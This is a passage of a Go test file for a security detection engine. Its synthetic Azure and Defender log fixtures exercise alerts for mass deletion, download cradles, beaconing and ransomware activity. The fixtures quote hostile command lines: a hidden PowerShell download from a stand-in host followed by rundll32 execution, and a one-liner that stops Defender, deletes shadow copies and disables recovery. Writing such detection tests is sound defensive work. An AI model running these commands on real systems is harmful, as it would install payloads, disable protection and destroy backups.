		recs = append(recs, fmt.Sprintf(`{"time":%q,"resourceId":"/SUBSCRIPTIONS/9A8B7C6D-0000-4000-8000-000000000001/RESOURCEGROUPS/RG-PROD/PROVIDERS/%s/%s","operationName":"%s/%s/DELETE","category":"Administrative","resultType":"Accept","resultSignature":"Accepted.Created","callerIpAddress":"203.0.113.97","correlationId":"c-%d","identity":{"claims":{"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn":%q}},"level":"Information","properties":{"statusCode":"Accepted"}}`,
			ts(base, 30*time.Minute+time.Duration(i)*70*time.Second), prov, kind, prov, typ, i, user))
	}
	p.raw("azure", `{"records":[`+strings.Join(recs, ",")+`]}`)

	const dev = "wks-0777.fabrikam.example"
	p.raw("defender", `{"records":[`+defenderRec("DeviceProcessEvents", ts(base, 0), dev,
		`"ActionType":"ProcessCreated","ReportId":601,"FileName":"powershell.exe","ProcessCommandLine":"powershell -w 1 -c \"iwr -useb https://cdn-sync.example.org/k -OutFile $env:APPDATA\\k.dll\"","InitiatingProcessFileName":"explorer.exe","AccountUpn":"v.lee@fabrikam.example"`)+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceFileEvents", ts(base, 6*time.Second), dev,
		`"ActionType":"FileCreated","ReportId":602,"FileName":"k.dll","FolderPath":"C:\\Users\\v.lee\\AppData\\Roaming\\k.dll","InitiatingProcessFileName":"powershell.exe"`)+`]}`)
	var nets []string
	for i := 0; i < 12; i++ {
		nets = append(nets, defenderRec("DeviceNetworkEvents", ts(base, 2*time.Minute+time.Duration(i)*4*time.Minute), dev,
			fmt.Sprintf(`"ActionType":"ConnectionSuccess","ReportId":%d,"LocalIP":"10.30.1.77","LocalPort":%d,"RemoteIP":"192.0.2.99","RemotePort":443,"Protocol":"Tcp","InitiatingProcessFileName":"rundll32.exe","InitiatingProcessCommandLine":"rundll32.exe k.dll,Run"`, 610+i, 52000+i)))
	}
	p.raw("defender", `{"records":[`+strings.Join(nets, ",")+`]}`)
	p.finish(base.Add(10 * time.Hour))
	p.want("cloud.mass_resource_deletion", "cloud.suspicious_signin_mass_deletion",
		"endpoint.powershell_download_cradle", "network.beaconing", "endpoint.cradle_payload_beacon")
}

// TestEndToEndRansomwareOneLiner: tampering and shadow deletion in one
// command line give two alerts with the same time; the chain must not
// depend on which of them the engine emits first.
func TestEndToEndRansomwareOneLiner(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 13, 2, 0, 0, 0, time.UTC)
	const dev = "fs-12.fabrikam.example"
	p.raw("defender", `{"records":[`+defenderRec("DeviceProcessEvents", ts(base, 0), dev,
		`"ActionType":"ProcessCreated","ReportId":701,"FileName":"cmd.exe","ProcessCommandLine":"cmd.exe /c sc stop WinDefend & vssadmin.exe delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no","InitiatingProcessFileName":"explorer.exe"`)+`]}`)
	var recs []string
	for i := 0; i < 55; i++ {
		recs = append(recs, defenderRec("DeviceFileEvents", ts(base, 3*time.Minute+time.Duration(i)*2*time.Second), dev,
			fmt.Sprintf(`"ActionType":"FileRenamed","ReportId":%d,"FileName":"r%03d.docx.qq9","FolderPath":"E:\\Share\\r%03d.docx.qq9","PreviousFileName":"r%03d.docx","InitiatingProcessFileName":"x.exe"`, 710+i, i, i, i)))
	}
	p.raw("defender", `{"records":[`+strings.Join(recs, ",")+`]}`)
	p.finish(base.Add(6 * time.Hour))
	p.want("endpoint.tamper_and_recovery_inhibition", "endpoint.ransomware_tamper_shadow_encrypt")
}

// BenchmarkLibrary runs the events of every inline fixture (a mix of all
// sources the library reads, about a fifth of them chained alerts) through
// one engine holding the whole library, round after round with times
// shifted by a day so the watermark advances and state expires as in a
// live stream. It reports events/s and where-conditions evaluated per
// event.
func BenchmarkLibrary(b *testing.B) {
	set := loadSet(b)
	var evs []event.Event
	for _, r := range set.Rules {
		for i := range r.Spec.Tests {
			es, err := ruletest.Events(&r.Spec.Tests[i])
			if err != nil {
				b.Fatal(err)
			}
			evs = append(evs, es...)
		}
	}
	sort.SliceStable(evs, func(i, j int) bool { return evs[i].Time.Before(evs[j].Time) })
	span := evs[len(evs)-1].Time.Sub(evs[0].Time) + 24*time.Hour
	eng, err := operators.NewEngine(set, operators.NewMemStore(), operators.Options{Lateness: time.Hour})
	if err != nil {
		b.Fatal(err)
	}
	kss := set.Keyspaces()
	b.ReportAllocs()
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		round, i := n/len(evs), n%len(evs)
		ev := evs[i]
		ev.Time = ev.Time.Add(time.Duration(round) * span)
		ev.ID = fmt.Sprintf("%s/%d", ev.ID, round)
		ev.Fields = nil
		for _, ks := range kss {
			for _, k := range ev.Keys(ks) {
				if _, err := eng.Process(ks, k, &ev); err != nil {
					b.Fatal(err)
				}
			}
		}
	}
	b.StopTimer()
	st := eng.Stats()
	if st.Events > 0 {
		b.ReportMetric(float64(st.StepsEvaluated)/float64(st.Events), "steps/event")
		b.ReportMetric(float64(st.EvalErrors)/float64(st.Events), "evalerr/event")
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
